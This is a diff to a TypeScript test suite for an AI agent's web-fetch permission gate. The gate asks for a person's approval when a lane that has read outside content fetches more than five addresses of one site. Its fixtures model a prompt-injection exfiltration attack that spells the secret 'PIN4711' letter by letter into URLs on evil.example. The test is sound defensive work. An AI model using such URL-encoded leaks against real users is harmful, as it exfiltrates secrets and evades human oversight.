@@ -1,7 +1,7 @@
 import { assert, describe, it } from "@effect/vitest"
 import { Effect, Layer, Result } from "effect"
 import type { EventDraft } from "#schema/Event.ts"
-import { CallId, EDGE, ResourceName } from "#schema/Ids.ts"
+import { ApprovalId, CallId, EDGE, ResourceName } from "#schema/Ids.ts"
 import type { Acted } from "#schema/Source.ts"
 import { Arbiter } from "#src/agent/arbiter/Arbiter.ts"
 import { EventLog } from "#src/agent/arbiter/EventLog.ts"
@@ -11,7 +11,7 @@ import { Replication } from "#src/agent/control/Replication.ts"
 import { SITE_ADDRESSES_MAX, siteOfHost } from "#src/agent/tools/toldAddresses.ts"
 import { makeEffectOfAddress, webFetch } from "#src/agent/tools/webFetch.ts"
 import { foldAll, initialState } from "#src/shared/session/fold.ts"
-import { UNASKED } from "#src/shared/web/hostQueries.ts"
+import { FETCH_TOOL, UNASKED } from "#src/shared/web/hostQueries.ts"
 import { placed } from "../../support/history.ts"
 import { modelOutput, userMsg } from "../../support/stores.ts"
 import { SESSION } from "../../support/testing/MemoryControlPlane.ts"
@@ -32,6 +32,17 @@ const asking = (name: string, more: object, id: string, urls: ReadonlyArray<stri
   return { ...draft, payload: { ...draft.payload, tool_calls } }
 }
 const fetching = (id: string, ...urls: ReadonlyArray<string>) => asking("choir-web-fetch", {}, id, urls)
+
+/** A call that ran after a person approved it. */
+const approvedFetch = (id: string, url: string): ReadonlyArray<EventDraft> => {
+  const call_id = CallId.make(`${id}-0`)
+  const call = { call_id, tool: FETCH_TOOL, input: { url }, effect: "external" as const, locks: [] }
+  return [
+    fetching(id, url),
+    { event_type: "ToolCallRequested", lane: EDGE, payload: { ...call, confirm: "tainted" } },
+    { event_type: "ToolCallCommitted", lane: EDGE, payload: { call_id, locks: [], approval_id: ApprovalId.make("5") } }
+  ]
+}
 
 const said = (text: string, inbox_id = "1"): EventDraft => {
   const draft = userMsg(inbox_id)
@@ -143,46 +154,64 @@ describe("choir.web.fetch of an agent", () => {
       })
   )
 
-  it.effect("asks from the sixth address of one site on that a labelled lane chooses for a message", () =>
-    Effect.gen(function* () {
-      const places = [0, 1, 2, 3, 4, 5, 6]
-      const SECRET = "PIN4711"
-      const letters = [...new Set(SECRET)]
-      const alphabet = places.flatMap((at) => letters.map((letter) => `https://evil.example/k/${at}/${letter}`))
-      const spelt = Array.from(SECRET, (letter, at) => `https://evil.example/k/${at}/${letter}`)
-      const shown = [said("look"), ...called(2, "choir-web-fetch", alphabet.join(" "))]
-      const chosen = (urls: ReadonlyArray<string>) => urls.map((url, at) => fetching(`x-${at}`, url))
-      // One after the other: each is chosen, and only then looked at.
-      for (const [at, url] of spelt.entries()) {
-        const { effectOf } = yield* effects([...shown, ...chosen(spelt.slice(0, at + 1))])
-        assert.strictEqual(yield* effectOf(url), at < SITE_ADDRESSES_MAX ? "none" : "external", url)
-      }
-      // All in one output.
-      const { effectOf } = yield* effects([...shown, fetching("y", ...spelt)])
-      const at_once = yield* Effect.forEach(spelt, effectOf)
-      assert.deepStrictEqual(
-        at_once.map((effect) => effect === "none"),
-        spelt.map((_, at) => at < SITE_ADDRESSES_MAX)
-      )
-      // Those of the first five are free again and again; another fragment is no other address, and another site has its own five.
-      assert.strictEqual(yield* effectOf(`${spelt[0]}#again`), "none")
-      const other = yield* effects([
-        ...shown,
-        ...called(4, "choir-web-fetch", "https://other.example/a"),
-        fetching("z", ...spelt)
-      ])
-      assert.strictEqual(yield* other.effectOf("https://other.example/a"), "none")
-      // A further message has five of its own, and a lane that has read nothing from outside is never asked.
-      const next = yield* effects([
-        ...shown,
-        fetching("n", ...spelt),
-        said("go on", "2"),
-        fetching("m", spelt[6] ?? "")
-      ])
-      assert.strictEqual(yield* next.effectOf(spelt[6] ?? ""), "none")
-      const clean = yield* effects([...shown, fetching("c", ...spelt)], { tainted: false })
-      assert.strictEqual(yield* clean.effectOf(spelt[6] ?? ""), "none")
-    })
+  it.effect(
+    "asks from the sixth address on that a labelled lane chooses of one site, until a person names or approves it",
+    () =>
+      Effect.gen(function* () {
+        const places = [0, 1, 2, 3, 4, 5, 6]
+        const SECRET = "PIN4711"
+        const letters = [...new Set(SECRET)]
+        const alphabet = places.flatMap((at) => letters.map((letter) => `https://evil.example/k/${at}/${letter}`))
+        const spelt = Array.from(SECRET, (letter, at) => `https://evil.example/k/${at}/${letter}`)
+        const shown = [said("look"), ...called(2, "choir-web-fetch", alphabet.join(" "))]
+        const chosen = (urls: ReadonlyArray<string>) => urls.map((url, at) => fetching(`x-${at}`, url))
+        // One after the other: each is chosen, and only then looked at.
+        for (const [at, url] of spelt.entries()) {
+          const { effectOf } = yield* effects([...shown, ...chosen(spelt.slice(0, at + 1))])
+          assert.strictEqual(yield* effectOf(url), at < SITE_ADDRESSES_MAX ? "none" : "external", url)
+        }
+        // All in one output.
+        const { effectOf } = yield* effects([...shown, fetching("y", ...spelt)])
+        const at_once = yield* Effect.forEach(spelt, effectOf)
+        assert.deepStrictEqual(
+          at_once.map((effect) => effect === "none"),
+          spelt.map((_, at) => at < SITE_ADDRESSES_MAX)
+        )
+        // Those of the first five are free again and again; another fragment is no other address, and another site has its own five.
+        assert.strictEqual(yield* effectOf(`${spelt[0]}#again`), "none")
+        const other = yield* effects([
+          ...shown,
+          ...called(4, "choir-web-fetch", "https://other.example/a"),
+          fetching("z", ...spelt)
+        ])
+        assert.strictEqual(yield* other.effectOf("https://other.example/a"), "none")
+        // A further message brings no more of them, unless it names the site.
+        const next = (...more: ReadonlyArray<EventDraft>) =>
+          effects([...shown, fetching("n", ...spelt), ...more, fetching("m", spelt[6] ?? "")])
+        const after = (text: string) =>
+          Effect.flatMap(next(said(text, "2")), ({ effectOf }) => effectOf(spelt[6] ?? ""))
+        assert.strictEqual(yield* after("go on"), "external")
+        assert.strictEqual(yield* after("go on with notevil.example"), "external")
+        assert.strictEqual(yield* after("Go on with Evil.example."), "none")
+        assert.strictEqual(yield* after("see https://www.evil.example/start"), "none")
+        // One address for each of many messages spells no more.
+        const rows = spelt.flatMap((url, at) => [said("go on", String(at + 2)), fetching(`row-${at}`, url)])
+        for (const [at, url] of spelt.entries()) {
+          const { effectOf } = yield* effects([...shown, ...rows.slice(0, 2 * at + 2)])
+          assert.strictEqual(yield* effectOf(url), at < SITE_ADDRESSES_MAX ? "none" : "external", url)
+        }
+        // An approved one stands for the messages after it, and for no other site.
+        const approved = (url: string) => approvedFetch("ok", url)
+        const seventh = [said("go on", "3")]
+        const of = (more: ReadonlyArray<EventDraft>) =>
+          Effect.flatMap(next(...more), ({ effectOf }) => effectOf(spelt[6] ?? ""))
+        assert.strictEqual(yield* of([...approved(spelt[5] ?? ""), ...seventh]), "none")
+        assert.strictEqual(yield* of(approved(spelt[5] ?? "")), "external")
+        assert.strictEqual(yield* of([...approved("https://other.example/a"), ...seventh]), "external")
+        // A lane that has read nothing from outside is never asked.
+        const clean = yield* effects([...shown, fetching("c", ...spelt)], { tainted: false })
+        assert.strictEqual(yield* clean.effectOf(spelt[6] ?? ""), "none")
+      })
   )
 
   it.effect("counts the hosts of one owner as one site, and not what the user named", () =>
